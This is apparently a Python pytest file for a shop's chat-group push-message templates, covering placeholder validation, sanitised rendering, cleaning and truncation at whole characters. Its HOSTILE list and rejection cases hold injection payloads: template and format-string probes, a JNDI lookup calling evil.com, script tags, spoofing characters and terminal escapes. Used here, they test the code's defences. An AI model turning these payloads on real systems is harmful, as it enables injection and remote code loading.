"""Texts with placeholders: strict when saved, inert when filled, cut at whole characters."""

from dataclasses import fields

import pytest

from shop.chat_groups.models import ChatChannel
from shop.outreach.push_texts import PLACEHOLDERS, SAMPLE, PushFacts, check_push_text, render_push
from shop.outreach.texts import BadTemplate, clean, cut, fill, for_markdown, in_bytes
from tests.factories.outreach import TEXT

HOSTILE = (
    "{{7*7}}",
    "{link.__class__}",
    "{0.__init__.__globals__}",
    "%(secret)s ${jndi:ldap://evil.com}",
    "<script>alert(1)</script>",
    "[点我](https://evil.com)",
    "<@all>",
    "evil.com/x",
    "www.evil.com",
    "https://evil.com",
    "a\u202egnp.exe",
    "line\nbreak **bold** `code` > quote # head",
    "\x00\x1b[31m",
)


class TestCheckPushText:
    def test_takes_what_it_knows(self) -> None:
        check_push_text(TEXT)
        check_push_text("{campaign} {price} {opens} {ends}\n[去看看]({link})")

    @pytest.mark.parametrize(
        "text",
        [
            "{campaign} {member} {link}",  # no such fact
            "{code} {link}",
            "{phone} {link}",
            "{link.__class__}",
            "{{link}}",
            "{campaign}",  # without a link
            "{link} {",
            "{link} }",
            "{link} https://evil.com",
            "{link} evil.com",
            "{link} WWW.EVIL",
            "{link} [领取](http:evil)",
            "[领取]({campaign}) {link}",
            "{link} <@all>",
            "{link} <font color=red>",
            "{link} \u202e",
            "{link}" + "长" * 1300,
            "{link}" * 20,
        ],
    )
    def test_refuses_everything_else(self, text: str) -> None:
        with pytest.raises(BadTemplate):
            check_push_text(text)

    def test_can_name_facts_of_the_campaign_alone(self) -> None:
        # Whoever adds a field adds it to what every stranger in a chat group may read.
        assert {field.name for field in fields(PushFacts)} == {
            "campaign",
            "price_fen",
            "starts_at",
            "ends_at",
            "link",
        }
        assert set(PLACEHOLDERS) == {"campaign", "price", "opens", "ends", "link"}

    @pytest.mark.parametrize("channel", ChatChannel)
    def test_a195_the_whole_of_a_push_is_known(self, channel: ChatChannel) -> None:
        text = "".join(f"{{{name}}}|" for name in PLACEHOLDERS)
        assert render_push(text, SAMPLE, channel) == (
            "周五拼团|99.00|11-27 20:00|11-27 22:00|https://shop.example/s/0123456789|"
        )


class TestRenderPush:
    @pytest.mark.parametrize("channel", ChatChannel)
    @pytest.mark.parametrize("name", HOSTILE)
    def test_a137_somebodys_words_stay_words(self, name: str, channel: ChatChannel) -> None:
        facts = PushFacts(
            campaign=name,
            price_fen=SAMPLE.price_fen,
            starts_at=SAMPLE.starts_at,
            ends_at=SAMPLE.ends_at,
            link=SAMPLE.link,
        )
        words = render_push("{campaign}{link}", facts, channel).removesuffix(SAMPLE.link)
        assert SAMPLE.link not in words
        assert "49" not in words
        assert "://" not in words
        assert "evil.com" not in words.lower()
        assert words.isprintable()
        if channel is ChatChannel.ROBOT:
            assert not set(words) & set("[]()<>*_`#@{}")

    def test_a_placeholder_in_a_name_is_not_filled(self) -> None:
        facts = PushFacts(
            campaign="{link}{price}",
            price_fen=SAMPLE.price_fen,
            starts_at=SAMPLE.starts_at,
            ends_at=SAMPLE.ends_at,
            link=SAMPLE.link,
        )
        text = render_push("{campaign} {link}", facts, ChatChannel.CUSTOMER_GROUP)
        assert text == f"{{link}}{{price}} {SAMPLE.link}"


class TestClean:
    def test_leaves_decent_words_alone(self) -> None:
        assert clean("618 拼团 · 9.9 元起 (限 3 份)") == "618 拼团 · 9.9 元起 (限 3 份)"

    def test_puts_words_on_one_line(self) -> None:
        assert clean("  a\n\tb\u2028c ") == "a b c"

    def test_markdown_becomes_wide(self) -> None:
        assert for_markdown("*a*[b]") == "＊a＊［b］"


class TestCut:
    def test_leaves_what_fits(self) -> None:
        assert cut("二十", 2) == "二十"

    def test_ends_with_a_whole_character(self) -> None:
        assert cut("你好世界", 10, measure=in_bytes) == "你好…"
        assert cut("👨‍👩‍👧好的呀", 5) == ""  # the family alone has five
        assert cut("ae\u0301bcd", 4) == "ae\u0301…"
        assert cut("ae\u0301bcd", 3) == "a…"

    def test_never_grows_too_long(self) -> None:
        for text in ("好" * 50, "👍🏽" * 20, "e\u0301" * 30, "abc" * 20):
            for most in range(1, 40):
                assert in_bytes(cut(text, most, measure=in_bytes)) <= most


class TestFill:
    def test_fills_once(self) -> None:
        assert fill("{a}{b}", {"a": "{b}", "b": "2"}) == "{b}2"
